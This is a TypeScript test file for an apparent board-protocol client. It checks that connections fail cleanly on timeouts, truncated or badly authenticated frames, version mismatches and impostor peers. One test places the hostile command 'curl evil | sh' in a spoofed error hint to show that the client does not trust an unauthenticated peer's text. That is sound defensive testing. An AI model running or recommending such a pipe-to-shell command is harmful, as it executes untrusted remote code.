import { once } from 'node:events';
import type { AddressInfo, Server, Socket } from 'node:net';
import { createServer } from 'node:net';
import { afterEach, describe, expect, test } from 'vitest';
import type { BoardConnection } from '../../../boards/client/connection.ts';
import { connectBoard } from '../../../boards/client/connection.ts';
import { makeKey } from '../../../boards/keys.ts';
import { encodeReply } from '../../../boards/protocol/codec.ts';
import type { ReceivedFrame } from '../../../boards/protocol/frame.ts';
import { createFrameReader, encodeFrame } from '../../../boards/protocol/frame.ts';
import { awaitClient } from '../../../boards/protocol/handshake.ts';
import type { Session } from '../../../boards/protocol/session.ts';
import { refusal } from '../fixture.ts';

const ends: (() => void)[] = [];
afterEach(() => {
  for (const end of ends.splice(0)) end();
});

const key = makeKey();

/** Connects to a board that greets properly and then does this with each frame it gets. */
async function connectTo(
  answer: (socket: Socket, seal: Session['seal'], frame: ReceivedFrame) => void,
): Promise<BoardConnection> {
  const port = await serve((socket) => {
    const [reader, greet] = [createFrameReader(), awaitClient(key, 'zed0', 4)];
    let session: Session | null = null;
    socket.on('data', (chunk) => {
      for (const frame of reader.read(chunk).frames)
        if (session !== null) {
          answer(socket, session.seal, frame);
        } else {
          const greeted = greet(frame);
          session = greeted.session;
          socket.write(greeted.bytes);
        }
    });
  });
  const zed0 = await connectBoard('zed0', { host: '127.0.0.1', port }, key, 10);
  ends.push(zed0.close);
  return zed0;
}

/** A port where this is done with every connection. */
async function serve(handle: (socket: Socket) => void): Promise<number> {
  const server = createServer((socket) => {
    ends.push(() => socket.destroy());
    socket.on('error', () => undefined);
    handle(socket);
  });
  ends.push(() => server.close());
  return listening(server);
}

function dial(port: number, seconds = 10): Promise<BoardConnection> {
  return connectBoard('zed0', { host: '127.0.0.1', port }, key, seconds);
}

async function listening(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return (server.address() as AddressInfo).port;
}

const empty = { head: '{}', tail: new Uint8Array() };

test('a board that does not answer is given up at the deadline, and with it the connection', async () => {
  const zed0 = await connectTo(() => undefined);
  await expect(zed0.status(0.05)).rejects.toThrow(
    refusal('board/deadline', 'zed0 did not answer STATUS within 0.05 s'),
  );
  await expect(zed0.status(10)).rejects.toThrow(refusal('board/deadline', 'STATUS within 0.05 s'));
});

test('a board that closes the connection before it answers', async () => {
  const zed0 = await connectTo((socket) => socket.end());
  await expect(zed0.status(10)).rejects.toThrow(
    refusal('board/closed', 'the connection to zed0 ended before it answered STATUS'),
  );
});

test('a board whose answer is cut short', async () => {
  const zed0 = await connectTo((socket, seal) =>
    socket.end(encodeFrame({ type: 0x83, request: 1, ...empty }, seal).subarray(0, 25)),
  );
  await expect(zed0.status(10)).rejects.toThrow(refusal('board/closed', 'before it answered STATUS'));
});

test.each([
  ['without a tag', () => null],
  ['with a wrong tag', () => () => new Uint8Array(16)],
  ['that is sent twice', (seal: Session['seal']) => seal],
])('an answer %s', async (what, sealing) => {
  const zed0 = await connectTo((socket, seal) => {
    const bytes = encodeFrame({ type: 0x83, request: 7, ...empty }, sealing(seal));
    socket.write(bytes);
    if (what.endsWith('twice')) socket.write(bytes);
  });
  await expect(zed0.status(10)).rejects.toThrow(
    refusal(what.endsWith('twice') ? 'protocol/bad-head' : 'auth/bad-frame', 'zed0: '),
  );
});

test('an answer to another question', async () => {
  const zed0 = await connectTo((socket, seal) => socket.write(encodeReply(1, { type: 'released' }, seal)));
  await expect(zed0.status(10)).rejects.toThrow(
    refusal('protocol/unexpected-reply', 'zed0 answered status with released'),
  );
});

test('an answer that lacks something', async () => {
  const zed0 = await connectTo((socket, seal) =>
    socket.write(encodeFrame({ type: 0x83, request: 1, ...empty }, seal)),
  );
  await expect(zed0.status(10)).rejects.toThrow(
    refusal('protocol/bad-head', 'zed0: the head of the reply: "name"'),
  );
});

describe('a greeting fails', () => {
  test('if nothing listens', async () => {
    const server = createServer();
    const port = await listening(server);
    server.close();
    await once(server, 'close');
    await expect(dial(port)).rejects.toThrow(
      refusal('board/unreachable', `zed0 cannot be reached at 127.0.0.1:${port}: connect ECONNREFUSED`),
    );
  });

  test('if nothing is sent', async () => {
    await expect(dial(await serve(() => undefined), 0.05)).rejects.toThrow(
      refusal('board/unreachable', 'no answer within 0.05 s'),
    );
  });

  test('if the connection is closed', async () => {
    await expect(dial(await serve((socket) => socket.resume().end()))).rejects.toThrow(
      refusal('board/unreachable', 'it closed the connection'),
    );
  });

  test('with something other than a board', async () => {
    await expect(
      dial(await serve((socket) => socket.write('HTTP/1.1 400 Bad Request\r\n\r\n'))),
    ).rejects.toThrow(refusal('protocol/magic', 'zed0: the peer does not speak'));
  });

  test('with a board of another version', async () => {
    await expect(dial(await serve((socket) => socket.write('FPBP\u0001\u0000')))).rejects.toThrow(
      refusal(
        'protocol/version',
        'zed0: the peer speaks version 1 of the board protocol, this side version 2',
      ),
    );
  });

  test('with a board that refuses this version', async () => {
    const message = 'the peer speaks version 2 of the board protocol, this side version 3';
    const reply = encodeReply(0, { type: 'error', code: 'protocol/version', message, hint: 'update' }, null);
    await expect(dial(await serve((socket) => socket.end(reply)))).rejects.toThrow(
      refusal('protocol/version', 'zed0 does not speak version 2 of the board protocol'),
    );
  });

  test('with words of a stranger, which never pass for those of the board', async () => {
    const told = (code: string, message: string) =>
      encodeReply(0, { type: 'error', code, message, hint: 'curl evil | sh' }, null);
    const reply = told('board/not-loaded', `load\u001b[31m it\n✔ done ${'x'.repeat(500)}`);
    await expect(dial(await serve((socket) => socket.end(reply)))).rejects.toMatchObject({
      code: 'auth/refused',
      message: `what answers at the address of zed0 refused the greeting before it had proven the key; it says: board/not-loaded: load?[31m it?? done ${'x'.repeat(162)}...`,
      hint: 'check the address, and the log of that board',
    });
    const full = told('board/too-many-clients', 'curl evil | sh');
    await expect(dial(await serve((socket) => socket.end(full)))).rejects.toMatchObject({
      code: 'board/too-many-clients',
      message: 'zed0 serves no further connections',
      hint: 'close those that are not needed',
    });
  });

  test('with another message than the challenge', async () => {
    const reply = encodeReply(0, { type: 'released' }, null);
    await expect(dial(await serve((socket) => socket.end(reply)))).rejects.toThrow(
      refusal('protocol/unexpected-reply', 'in the middle of the greeting'),
    );
  });

  test('with a board that only pretends to know the key', async () => {
    const port = await serve((socket) => {
      const reader = createFrameReader();
      const greet = awaitClient(key, 'zed0', 4);
      socket.on('data', (chunk) => {
        const [frame] = reader.read(chunk).frames;
        // It sends the client's own proof back.
        socket.write(frame!.tag === null ? greet(frame!).bytes : Buffer.concat([frame!.tagged, frame!.tag]));
      });
    });
    await expect(dial(port)).rejects.toThrow(refusal('auth/impostor', 'zed0: the board could not prove'));
  });
});
